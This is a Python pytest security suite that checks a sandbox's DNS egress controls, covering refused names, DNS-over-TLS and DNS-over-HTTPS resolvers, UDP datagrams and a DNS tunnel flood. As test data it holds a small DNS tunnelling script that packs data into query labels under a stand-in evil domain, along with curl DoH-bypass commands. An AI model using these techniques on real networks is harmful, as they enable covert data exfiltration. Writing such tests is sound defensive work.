"""DNS is no way out: a refused name is never forwarded, an allowed one only once something connects to it."""

from __future__ import annotations

from ipaddress import ip_address, ip_network

import pytest

from bellglass import Rule
from bellglass.testing.egress import DNS_SERVER
from bellglass.testing.internet import EVIL, Internet
from bellglass.testing.world import echo
from tests.security.inside import AT_ONCE_S, Inside, Outcome

pytestmark = pytest.mark.root
SYNTHETIC = ip_network("198.18.0.0/15")
GATEWAY, FOREIGN = "10.200.0.1", "8.8.8.8"
A, NULL, MX, TXT, AAAA, SRV, HTTPS_RECORD, ANY = 1, 10, 15, 16, 28, 33, 65, 255
KINDS = (A, NULL, MX, TXT, AAAA, SRV, HTTPS_RECORD, ANY)
NOERROR, NXDOMAIN, REFUSED = "0", "3", "5"
CANARY = "canary123.evil.test"
LONG = ".".join(["a" * 63, "b" * 63, "c" * 63]) + ".evil.test"
"""As much as a name can carry out."""


@pytest.fixture(scope="module", autouse=True)
def foreign_resolver(internet: Internet) -> None:
    internet.serve(EVIL, 853, echo)


def test_an_allowed_name_is_asked_for_only_once_something_connects(inside: Inside, internet: Internet) -> None:
    inside.allow("good.test:80")
    with internet.silence(EVIL, DNS_SERVER):
        found = inside.probe("name", host="good.test").data.split()
        assert len(found) == 1 and ip_address(found[0]) in SYNTHETIC
    before = len(internet.dns.asked)
    assert inside.http("good.test").passed
    assert "good.test" in internet.dns.asked[before:]


@pytest.mark.parametrize("host", [CANARY, LONG])
@pytest.mark.parametrize("policy", ["deny", "rules"])
def test_a_refused_name_is_never_forwarded(inside: Inside, internet: Internet, host: str, policy: str) -> None:
    internet.dns.zone[host] = [EVIL]
    inside.open()
    before = len(internet.dns.asked)
    with internet.watch(EVIL) as packets:
        assert inside.http(host).passed
    assert packets and host in internet.dns.asked[before:], "the same name gets there when it is allowed"

    inside.allow(*(["good.test:80"] if policy == "rules" else []))
    with internet.silence(EVIL, DNS_SERVER), inside.refused("name_not_allowed", host=host, protocol="dns"):
        outcome = inside.probe("name", host=host)
        assert outcome.word == "EAI_NONAME" and outcome.seconds < 5
    with internet.silence(EVIL, DNS_SERVER):
        done = inside.box.exec(["curl", "-sS", f"http://{host}/"], timeout=30)
        assert done.exit_code == 6, done.stderr
        assert inside.box.exec(["getent", "hosts", host]).exit_code == 2


@pytest.mark.parametrize("port", [853, 443], ids=["dot", "doh"])
def test_a_foreign_resolver_needs_a_rule_like_everything(inside: Inside, internet: Internet, port: int) -> None:
    def question() -> Outcome:
        return inside.tcp(EVIL, 853, b"question") if port == 853 else inside.https(EVIL, name="evil.test")

    inside.allow(Rule(cidr=f"{EVIL}/32", ports=[port]))
    with internet.watch(EVIL) as packets:
        assert question().passed
    assert packets
    inside.allow("good.test:443", "good.test:853")
    with internet.silence(EVIL, DNS_SERVER), inside.refused("address_not_allowed", address=EVIL, port=port):
        assert question().cut


def test_a_client_of_dns_over_https_finds_nobody(inside: Inside, internet: Internet) -> None:
    for url in (f"https://{EVIL}/dns-query", "https://evil.test/dns-query"):
        client = ["curl", "-sS", "-k", "--doh-insecure", "--doh-url", url, f"http://{CANARY}/"]
        inside.open()
        came = len(internet.requests)
        inside.box.exec(client, timeout=30)
        asked = [target for where, _, target in internet.requests[came:] if where == EVIL]
        assert asked and set(asked) == {"/dns-query"}, "its questions get there when they may"
        inside.allow("good.test:80")
        with internet.silence(EVIL, DNS_SERVER):
            done = inside.box.exec(client, timeout=30)
            assert done.exit_code == 6, done.stderr


@pytest.mark.parametrize("port", [443, 853, 784, 123, 5353], ids="udp/{}".format)
def test_no_datagram_but_a_question_leaves_under_any_policy(inside: Inside, internet: Internet, port: int) -> None:
    """QUIC, DNS over QUIC, NTP, mDNS."""
    with internet.watch(EVIL) as packets:
        internet.datagram(EVIL, port)
    assert [packet.port for packet in packets] == [port], "from the host it arrives"
    for policy in (inside.open, lambda: inside.allow(Rule(cidr=f"{EVIL}/32", ports=[port]))):
        policy()
        with internet.silence(EVIL, DNS_SERVER):
            outcome = inside.probe("udp", host=EVIL, port=port, data="x" * 1200)
            assert outcome.word in ("ECONNREFUSED", "EHOSTUNREACH") and outcome.seconds < AT_ONCE_S


# What follows refuses more often than events are told, so it comes last.


@pytest.mark.parametrize("server", [GATEWAY, FOREIGN])
@pytest.mark.parametrize("stream", [False, True], ids=["udp", "tcp"])
def test_no_kind_of_question_leaves(inside: Inside, internet: Internet, server: str, stream: bool) -> None:
    """Whomever it is sent to, it comes to the sandbox's own resolver, which asks nobody."""
    inside.allow("good.test:80")
    questions = [
        {"op": "dns", "server": server, "host": host, "kind": kind, "stream": stream}
        for host in ("good.test", CANARY, LONG)
        for kind in KINDS
    ]
    with internet.silence(EVIL, DNS_SERVER):
        # A resolver's connections are few.
        answers = [
            outcome.data for at in range(0, len(questions), 8) for outcome in inside.all(*questions[at : at + 8])
        ]
    allowed, *refused = answers[: len(KINDS)], answers[len(KINDS) : 2 * len(KINDS)], answers[2 * len(KINDS) :]
    code, _, address = allowed[KINDS.index(A)].partition(" ")
    assert code == NOERROR and ip_address(address) in SYNTHETIC
    assert set(allowed[1:]) <= {NOERROR, REFUSED}, "no records of any other kind"
    for codes in refused:
        assert set(codes) <= {NXDOMAIN, REFUSED} and codes[0] == NXDOMAIN


def test_a_flood_of_names_carries_nothing_out(inside: Inside, internet: Internet) -> None:
    """What a tunnel does: data in labels, a thousand of them."""
    inside.allow("good.test:80")
    flood = (
        "import socket\n"
        "sock = socket.socket(type=socket.SOCK_DGRAM); sock.settimeout(10); sock.connect(('10.200.0.1', 53))\n"
        "def ask(label, kind):\n"
        "    name = b''.join(bytes([len(p)]) + p for p in (label, b'tunnel', b'evil', b'test'))\n"
        "    sock.send(b'\\x12\\x67\\x01\\0\\0\\1' + bytes(6) + name + b'\\0\\0' + bytes([kind]) + b'\\0\\1')\n"
        "    return sock.recv(4096)[3] & 15\n"
        "print({ask(b'%060d' % n, (1, 16, 10)[n % 3]) for n in range(999)})"
    )
    with internet.silence(EVIL, DNS_SERVER):
        assert inside.box.exec(["python3", "-c", flood], timeout=60).stdout == "{3}\n"
